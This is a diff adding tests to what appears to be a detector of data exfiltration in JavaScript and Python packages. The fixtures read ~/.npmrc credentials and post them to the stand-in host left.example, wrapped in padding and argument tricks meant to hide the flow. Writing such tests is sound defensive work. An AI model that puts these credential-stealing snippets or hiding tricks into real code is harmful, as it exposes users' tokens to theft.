@@ -466,3 +466,87 @@ def test_hostile_texts_end_soon(path: str, text: str) -> None:
     start = time.process_time()  # where a run of letters is divided in all ways, it takes hours
     take([entry(path, text)], sides.recipe(code=True), readers.ALL)
     assert time.process_time() - start < 20
+
+
+TAKEN = 'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
+#: What is put around a passing so that nobody sees it: calls, arguments, uses.
+PADDED = {
+    "calls of one": TAKEN + "".join(f"exports.f{n} = () => send({n});\n" for n in range(600)),
+    "calls of both": TAKEN + "".join(f"send({n}); grab({n});\n" for n in range(600)),
+    "functions": TAKEN + "".join(f"exports.f{n} = () => require('os').hostname({n});\n" for n in range(90)),
+}
+
+
+@pytest.mark.parametrize("way", PADDED)
+@pytest.mark.parametrize(
+    "call",
+    [
+        "exports.go = () => { send(grab()); };",
+        f"exports.go = () => {{ send(/* {'a ' * 1500} */ grab()); }};",
+        f"exports.go = () => {{ send({', '.join(map(str, range(200)))}, grab()); }};",
+        f"exports.go = () => {{ send({{ {', '.join(f'a{n}: {n}' for n in range(200))}, key: grab() }}); }};",
+    ],
+)
+def test_padding_hides_no_passing(way: str, call: str) -> None:
+    send = 'exports.send = (...x) => fetch("https://left.example/", { body: x });'
+    assert told(package(PADDED[way] + call, GRAB["member"], send)) == CHAIN
+
+
+def test_an_object_is_followed_however_often_it_is_used() -> None:
+    line = 'exports.Line = class { send(x) { return fetch("https://left.example/", { body: x }); } };'
+    many = (
+        'const { grab } = require("./grab");\nconst { Line } = require("./send");\nconst line = new Line();\n'
+    )
+    many += "line.open();\n" * 500 + "line.send(grab());\n"
+    assert told(package(many, GRAB["member"], line)) == CHAIN
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.js", "".join(f'const {{ a{n} }} = require("./a");\na{n}();\n' for n in range(3_000))),
+        ("a.js", 'const { a } = require("./a");\n' + "a();\n" * 5_000),
+        ("a.py", "".join(f"from .a import a{n}\na{n}()\n" for n in range(3_000))),
+        ("a.py", "from .a import a\n" + "a()\n" * 5_000),
+    ],
+)
+def test_more_calls_than_are_followed_are_said(path: str, text: str) -> None:
+    found = take([entry(path, text)], sides.recipe(code=True), readers.ALL)
+    assert "more calls of other files than are followed" in {r.why for r in found if isinstance(r, Unread)}
+
+
+@pytest.mark.parametrize(
+    ("taken", "given"),
+    [
+        ("...x", "0, grab()"),
+        ("a, ...x", "0, 0, grab()"),
+        ("a, x", "...[0, grab()]"),
+        ("{ x }", "{ x: grab() }"),
+    ],
+)
+def test_a_secret_is_followed_however_it_is_given(taken: str, given: str) -> None:
+    send = f'exports.send = ({taken}) => fetch("https://left.example/", {{ body: x }});'
+    assert told(package(f"{TAKEN}exports.go = () => send({given});", GRAB["member"], send)) == CHAIN
+
+
+@pytest.mark.parametrize(
+    ("taken", "given"),
+    [
+        ("*x", "0, grab()"),
+        ("*x: str", "0, grab()"),
+        ("**x", "k=grab()"),
+        ("*, x", "x=grab()"),
+        ("a, x", "x=grab(), a=0"),
+        ("a, x", "*[0, grab()]"),
+    ],
+)
+def test_a_secret_of_a_module_is_followed_however_it_is_given(taken: str, given: str) -> None:
+    files = {
+        "a/__init__.py": "",
+        "a/grab.py": "import os\ndef grab():\n    return open(os.path.expanduser('~/.npmrc')).read()\n",
+        "a/send.py": (
+            f"import requests\ndef send({taken}):\n    requests.post('https://left.example/', data=x)\n"
+        ),
+        "a/main.py": f"from .grab import grab\nfrom .send import send\ndef go():\n    send({given})\n",
+    }
+    assert told(files) == {("a/send.py", "exfiltration", "grab.py -> left.example")}
